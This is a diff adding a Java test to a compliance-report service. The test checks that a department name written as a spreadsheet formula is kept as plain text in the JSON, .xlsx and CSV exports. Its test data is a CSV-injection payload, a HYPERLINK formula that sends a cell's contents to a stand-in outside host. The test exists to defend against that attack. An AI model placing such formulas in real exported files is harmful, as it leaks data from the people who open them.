@@ -417,4 +417,28 @@ class ComplianceReportTest {
                 .then().statusCode(200).header("Content-Disposition", equalTo("attachment; filename=\""
                         + "catalog-compliance-report-331000-2026-05-01-2026-05-31.csv\""));
     }
+
+    @Test
+    void aDepartmentNameThatWouldRunAsAFormulaIsTextInTheCsvFile() throws IOException {
+        // 衢州 (330800): a region no other test uses; the name is the editor's free text
+        String dept = code("11330800002511010");
+        String name = "=HYPERLINK(\"http://x.example/?\"&A1,\"详情\")";
+        Map<String, Object> body = entryOf(dept, "衢州公式名称目录");
+        body.put("providerDepartmentName", name);
+        submitted(body, calendar.today().toString());
+
+        // JSON and .xlsx (an inline string, never a formula) as the editor wrote it
+        assertEquals(List.of(name), report(auditor(), "?region=330800").getList("departments.departmentName"));
+        byte[] xlsx = as(auditor()).queryParam("region", "330800").queryParam("format", "xlsx").get(R).then()
+                .statusCode(200).extract().asByteArray();
+        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
+            assertEquals(name, wb.getFirstSheet().read().get(1).getCellAsString(1).orElse(null));
+        }
+        // CSV: a leading ' so that a spreadsheet program shows the text instead of running it (OWASP)
+        byte[] csv = as(auditor()).queryParam("region", "330800").queryParam("format", "csv").get(R).then()
+                .statusCode(200).extract().asByteArray();
+        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(new String(csv, StandardCharsets.UTF_8)
+                .substring(1))).getRecords();
+        assertEquals(List.of(dept, "'" + name, "330800", "1"), records.get(1).toList().subList(0, 4));
+    }
 }
